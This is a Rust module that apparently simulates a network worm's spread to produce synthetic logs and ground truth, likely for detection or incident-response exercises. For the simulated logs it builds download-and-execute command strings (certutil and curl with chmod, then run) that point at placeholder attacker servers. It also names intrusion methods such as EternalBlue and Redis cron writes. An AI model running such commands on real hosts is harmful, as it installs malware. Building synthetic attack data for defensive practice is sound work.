//! a strain and the hosts that it has → whom it scans, attacks, takes, and what of it is logged.
//! Deliberately absent: ordinary work (`work`).

use std::io;

use super::super::random::Random;
use super::truth::Kind;
use super::{Act, Config, MINUTE, World, Worm, hash_of};

/// How the first host was entered.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct WayIn {
    /// An id of `list methods`; `unknown`: nothing is logged of it.
    pub method: &'static str,
    pub source: String,
}

/// What one worm is like, drawn once.
#[derive(Debug, Clone)]
pub(super) struct Strain {
    pub port: u16,
    pub path: String,
    pub hash: String,
    /// SMB: by stolen passwords and a service, instead of an exploit. SSH: by keys, instead of guesses.
    pub credentials: bool,
    /// A taken host fetches it from its taker on this port; else it is pushed.
    pub pull: Option<u16>,
    pub server: String,
    pub server_port: u16,
    /// It leaves alone who is taken already.
    pub checks: bool,
    /// Calls of one host.
    pub calls: u16,
    /// Milliseconds between two.
    pub pace: u64,
    pub way_in: WayIn,
    pub user: &'static str,
}

fn word(random: &mut Random, length: u64) -> String {
    let letters = b"abcdefghijklmnoprstuvwxyz";
    (0..length).map(|_| char::from(letters[random.below(letters.len() as u64) as usize])).collect()
}

impl Strain {
    pub(super) fn new(config: &Config, random: &mut Random) -> Self {
        let length = 4 + random.below(5);
        let name = word(random, length);
        let folder = word(random, 6);
        let path = match config.worm {
            Worm::Smb => {
                let name = if random.permille(250) { "lsass".to_owned() } else { name };
                let folders = [
                    format!("C:\\ProgramData\\{folder}"),
                    format!("C:\\Windows\\{folder}"),
                    "C:\\Users\\Public".to_owned(),
                ];
                format!("{}\\{name}.exe", folders[random.below(3) as usize])
            }
            _ => {
                let folders =
                    [format!("/var/tmp/.{folder}"), "/tmp".to_owned(), format!("/opt/{folder}"), "/dev/shm".to_owned()];
                format!("{}/{name}", folders[random.below(4) as usize])
            }
        };
        let credentials = random.permille(400);
        let methods: &[&'static str] = match config.worm {
            Worm::Smb => &["eternalblue", "rdp_password_guess", "unknown"],
            Worm::Ssh => &["ssh_password_guess", "ssh_password_guess", "unknown"],
            Worm::Redis => &["redis_cron_write", "ssh_password_guess", "unknown"],
        };
        Self {
            port: match config.worm {
                Worm::Smb => 445,
                Worm::Ssh => 22,
                Worm::Redis => 6379,
            },
            hash: hash_of(&path, config.seed),
            path,
            credentials,
            pull: random.permille(500).then(|| random.between(8_000, 19_000) as u16),
            server: format!("198.51.100.{}", random.between(2, 250)),
            server_port: [443, 8080, 4444, 80][random.below(4) as usize],
            checks: random.permille(500),
            calls: (random.between(12, 40) as u16).min(8 + config.hosts as u16 / 4),
            pace: random.between(300, 4_000),
            way_in: WayIn {
                method: methods[random.below(methods.len() as u64) as usize],
                source: format!("203.0.113.{}", random.between(2, 250)),
            },
            user: ["root", "deploy", "ubuntu"][random.below(3) as usize],
        }
    }
}

impl World<'_> {
    /// The first host: one that has the worm's service and is weak, or any of its kind.
    pub(super) fn entry(&mut self, time: i64) -> io::Result<()> {
        let port = self.strain.port;
        let able: Vec<u32> =
            (0u32..).zip(&self.network.hosts).filter(|it| it.1.open.contains(&port)).map(|it| it.0).collect();
        if able.is_empty() {
            return Ok(());
        }
        let at = able[self.random.below(able.len() as u64) as usize];
        let way = self.strain.way_in.clone();
        self.truth.zero = Some(at);
        match way.method {
            "eternalblue" | "redis_cron_write" => {
                for n in 0..3 {
                    let bytes = (2_000 + self.random.below(40_000), 900 + self.random.below(3_000));
                    let image = self.service_image(at);
                    self.outside(time + n * 400, at, &way.source, port, true, "SF", bytes, image)?;
                }
            }
            "ssh_password_guess" | "rdp_password_guess" => {
                let port = if way.method.starts_with("ssh") { 22 } else { 3389 };
                let kind = if port == 22 { "password" } else { "10" };
                let user = if port == 22 { self.strain.user } else { "administrator" };
                let guesses = 12 + self.random.below(60);
                for n in 0..=guesses {
                    let when = time - ((guesses - n) * 1_500) as i64;
                    let image = self.service_image(at);
                    self.outside(when, at, &way.source, port, true, "SF", (2_400, 3_100), image)?;
                    let host = &mut self.network.hosts[at as usize];
                    self.logs.logon(when + 700, at, host, &way.source, user, kind, n == guesses, None)?;
                }
            }
            _ => {}
        }
        self.later(time + 4_000, Act::Taken(at, None));
        Ok(())
    }

    fn service_image(&self, at: u32) -> &'static str {
        match (self.network.hosts[at as usize].windows, self.strain.port) {
            (true, _) => "System",
            (false, 6379) => "/usr/bin/redis-server",
            _ => "/usr/sbin/sshd",
        }
    }

    /// One more call of a taken host: to somebody, or to an address that nobody has.
    pub(super) fn scan(&mut self, time: i64, from: u32, left: u16) -> io::Result<()> {
        let subnets = self.network.subnets.len() as u64;
        let own = self.network.hosts[from as usize].subnet;
        let subnet = if self.random.permille(700) { own } else { self.random.below(subnets) as usize };
        let (first, size) = self.network.subnets[subnet];
        let port = self.strain.port;
        let image = self.strain.path.clone();
        if self.random.permille(150) {
            let n = self.random.next();
            let address = self.network.unused(subnet, n);
            self.scan_of_nobody(time, from, subnet, &address, &image)?;
        } else {
            let to = first + self.random.below(u64::from(size)) as u32;
            if to != from {
                let open = self.network.hosts[to as usize].open.contains(&port);
                self.truth.edge(from, to, Kind::Scanned, time);
                let (state, bytes) = if open {
                    ("SF", (120 + self.random.below(160), 90 + self.random.below(260)))
                } else {
                    ("REJ", (0, 0))
                };
                self.call(time, from, to, port, state, bytes, &image, Some((from, to)))?;
                let taken = self.truth.hosts[to as usize].taken.is_some();
                // Some targets are never come to.
                if open && !(self.strain.checks && taken) && self.random.permille(850) {
                    let wait = self.random.between(400, 9_000) as i64;
                    self.later(time + wait, Act::Attack(from, to));
                }
            }
        }
        if left > 1 {
            let wait = self.random.wait(self.strain.pace) as i64 + 20;
            self.later(time + wait, Act::Scan(from, left - 1));
        } else if self.random.permille(600) {
            // It rests, and begins anew.
            let rest = self.random.between(5, 25) as i64 * MINUTE;
            self.later(time + rest, Act::Scan(from, self.strain.calls / 2 + 1));
        }
        Ok(())
    }

    fn scan_of_nobody(&mut self, time: i64, from: u32, subnet: usize, to: &str, image: &str) -> io::Result<()> {
        let port = self.strain.port;
        let src_port = self.network.hosts[from as usize].source_port();
        let host = &self.network.hosts[from as usize];
        let call = super::Call { src: &host.address, src_port, dst: to, port, state: "S0", sent: 0, received: 0 };
        let seen = !self.network.blind[host.subnet] || !self.network.blind[subnet];
        let before = self.logs.written;
        self.logs.flow(time, &call, seen, None)?;
        self.logs.connect(time, from, host, image, &call, false, None)?;
        self.truth.nobody(from, to, time, self.logs.written - before);
        Ok(())
    }

    pub(super) fn attack(&mut self, time: i64, from: u32, to: u32) -> io::Result<()> {
        let about = Some((from, to));
        let port = self.strain.port;
        let image = self.strain.path.clone();
        let target = &self.network.hosts[to as usize];
        let able = target.weak && target.windows == (self.config.worm == Worm::Smb) && self.taken < self.most;
        let succeeds = able && self.truth.hosts[to as usize].taken.is_none();
        self.truth.edge(from, to, Kind::Attacked, time);
        self.truth.hosts[to as usize].attacked = true;
        let source = self.network.hosts[from as usize].address.clone();
        let mut end = time;
        match (self.config.worm, self.strain.credentials) {
            (Worm::Smb, false) => {
                for n in 0..2 + self.random.below(3) as i64 {
                    let bytes = (6_000 + self.random.below(60_000), 900 + self.random.below(4_000));
                    self.call(time + n * 350, from, to, port, "SF", bytes, &image, about)?;
                    end = time + n * 350;
                }
                // An intrusion-detection system knows the exploit, where it looks.
                if self.random.permille(60) {
                    let (a, b) = (source.clone(), self.network.hosts[to as usize].address.clone());
                    self.logs.alert(
                        time,
                        None,
                        "ET EXPLOIT Possible ETERNALBLUE MS17-010",
                        "",
                        "",
                        Some((&a, &b, port)),
                        about,
                    )?;
                }
            }
            (Worm::Smb, true) => {
                let bytes = (3_000 + self.random.below(300_000), 2_500 + self.random.below(3_000));
                self.call(time, from, to, port, "SF", bytes, &image, about)?;
                let guesses = 1 + self.random.below(4);
                for n in 0..guesses {
                    let ok = succeeds && n + 1 == guesses;
                    let host = &mut self.network.hosts[to as usize];
                    self.logs.logon(time + n as i64 * 90, to, host, &source, "svc-backup", "3", ok, about)?;
                }
                end = time + 600;
            }
            (Worm::Ssh, keys) => {
                let guesses = if keys { 1 } else { 4 + self.random.below(20) };
                let kind = if keys { "publickey" } else { "password" };
                for n in 0..guesses {
                    end = time + n as i64 * 900;
                    let bytes = (2_100, 2_900 + self.random.below(300));
                    self.call(end, from, to, port, "SF", bytes, &image, about)?;
                    let ok = succeeds && n + 1 == guesses;
                    // sshd logs no refusal of a key unless it is told to; the guess of a user's name it does.
                    if ok || !keys || self.random.permille(500) {
                        let host = &mut self.network.hosts[to as usize];
                        self.logs.logon(end + 300, to, host, &source, self.strain.user, kind, ok, about)?;
                    }
                }
            }
            (Worm::Redis, _) => {
                for n in 0..1 + self.random.below(3) as i64 {
                    let denied = !self.network.hosts[to as usize].weak;
                    let bytes = (700 + self.random.below(1_800), if denied { 180 } else { 4_200 });
                    end = time + n * 200;
                    self.call(end, from, to, port, "SF", bytes, &image, about)?;
                }
            }
        }
        if succeeds {
            self.truth.edge(from, to, Kind::Compromised, time);
            // The second of two hosts that attack at once finds it taken.
            self.truth.hosts[to as usize].taken = Some((end, Some(from)));
            self.taken += 1;
            let wait = if self.config.worm == Worm::Redis { self.random.between(2_000, 60_000) } else { 800 };
            self.later(end + wait as i64, Act::Taken(to, Some(from)));
        }
        Ok(())
    }

    /// What a taken host shows: it fetches the worm, runs it, calls its server, and goes on.
    pub(super) fn taken(&mut self, time: i64, at: u32, by: Option<u32>) -> io::Result<()> {
        if by.is_none() {
            self.truth.hosts[at as usize].taken = Some((time, None));
            self.taken += 1;
        }
        let about = by.map(|it| (it, at));
        let Self { strain, config, .. } = self;
        let strain = strain.clone();
        let path = strain.path.as_str();
        let windows = config.worm == Worm::Smb;
        let fetch_from = match (by, strain.pull) {
            (Some(by), Some(port)) => Some((by, port)),
            _ => None,
        };
        let (shell, parent, user) = match (windows, strain.credentials, config.worm) {
            // How the first was entered shows in what its shell hangs from.
            (true, ..) if by.is_none() && strain.way_in.method != "eternalblue" => {
                ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe", "CORP\\amy")
            }
            (false, ..) if by.is_none() && strain.way_in.method == "ssh_password_guess" => {
                ("/bin/bash", "/usr/sbin/sshd", strain.user)
            }
            (false, ..) if by.is_none() && strain.way_in.method == "unknown" => {
                ("/bin/sh", "/usr/lib/systemd/systemd", "root")
            }
            (true, false, _) => {
                ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\spoolsv.exe", "NT AUTHORITY\\SYSTEM")
            }
            (true, true, _) => {
                ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\services.exe", "NT AUTHORITY\\SYSTEM")
            }
            (_, _, Worm::Redis) => ("/bin/sh", "/usr/sbin/cron", "root"),
            _ => ("/bin/bash", "/usr/sbin/sshd", strain.user),
        };
        let from = match fetch_from {
            Some((by, port)) => {
                let address = &self.network.hosts[by as usize].address;
                let address = if address.contains(':') { format!("[{address}]") } else { address.clone() };
                format!("http://{address}:{port}/{}", strain.hash.get(..6).unwrap_or("x"))
            }
            None => format!("http://{}:{}/{}", strain.server, strain.server_port, strain.hash.get(..6).unwrap_or("x")),
        };
        if windows && strain.credentials && by.is_some() {
            let host = &self.network.hosts[at as usize];
            self.logs.service(time, at, host, "WinHostSvc", path, about)?;
            self.run(time + 40, at, path, path, parent, 640, user, &strain.hash, about)?;
        } else if windows {
            let command = format!("cmd.exe /c certutil -urlcache -split -f {from} {path} & start {path}");
            let pid = self.run(time, at, shell, &command, parent, 1180, user, "", about)?;
            self.run(time + 1_500, at, path, path, shell, pid, user, &strain.hash, about)?;
        } else {
            let command = format!("sh -c curl -fsSL {from} -o {path}; chmod +x {path}; {path}");
            let pid = self.run(time, at, shell, &command, parent, 810, user, "", about)?;
            let curl = format!("curl -fsSL {from} -o {path}");
            self.run(time + 30, at, "/usr/bin/curl", &curl, shell, pid, user, "", about)?;
            self.run(time + 1_400, at, path, path, shell, pid, user, &strain.hash, about)?;
        }
        let fetcher = if windows { shell } else { "/usr/bin/curl" };
        match fetch_from {
            Some((by, port)) => {
                let size = 180_000 + self.random.below(900_000);
                self.call(time + 200, at, by, port, "SF", (400, size), fetcher, None)?;
            }
            None => {
                let size = 180_000 + self.random.below(900_000);
                self.outside(time + 200, at, &strain.server, strain.server_port, false, "SF", (300, size), fetcher)?;
            }
        }
        self.later(time + 3_000, Act::Beacon(at));
        let rest = self.random.between(5, 240) as i64 * 1_000;
        self.later(time + rest, Act::Scan(at, strain.calls));
        self.alert_of(time, at)
    }

    /// Where nobody was alerted until the end, the first is: else nobody would ask.
    pub(super) fn last_alert(&mut self) -> io::Result<()> {
        let alerted = self.truth.hosts.iter().any(|it| it.alerted && it.taken.is_some());
        if let Some(at) = self.truth.zero.filter(|_| !alerted) {
            self.truth.hosts[at as usize].alerted = true;
            let (path, end) = (self.strain.path.clone(), self.end);
            let host = &self.network.hosts[at as usize];
            self.logs.alert(end - MINUTE, Some(host), "Malicious program", &path, "", None, None)?;
        }
        Ok(())
    }

    /// A part of the taken hosts is alerted, some time later.
    fn alert_of(&mut self, time: i64, at: u32) -> io::Result<()> {
        // Somebody has to be, or nobody would ask.
        let first = self.taken == 2;
        if !first && !self.random.permille(self.config.alerted_permille) {
            return Ok(());
        }
        let delay = self.random.between(10, 1_200) as i64 * 1_000;
        let with_path = first || self.random.permille(600);
        let with_hash = self.random.permille(400);
        let titles = ["Malicious program", "Worm activity", "Suspicious process"];
        let title = titles[self.random.below(3) as usize];
        let (path, hash) = (self.strain.path.clone(), self.strain.hash.clone());
        let host = &self.network.hosts[at as usize];
        self.truth.hosts[at as usize].alerted = true;
        let (path, hash) = (if with_path { path.as_str() } else { "" }, if with_hash { hash.as_str() } else { "" });
        self.logs.alert(time + delay, Some(host), title, path, hash, None, None)
    }

    pub(super) fn beacon(&mut self, time: i64, at: u32) -> io::Result<()> {
        let strain = self.strain.clone();
        let bytes = (300 + self.random.below(900), 200 + self.random.below(2_000));
        self.outside(time, at, &strain.server, strain.server_port, false, "SF", bytes, &strain.path)?;
        let wait = self.random.between(4, 12) as i64 * MINUTE;
        self.later(time + wait, Act::Beacon(at));
        Ok(())
    }
}
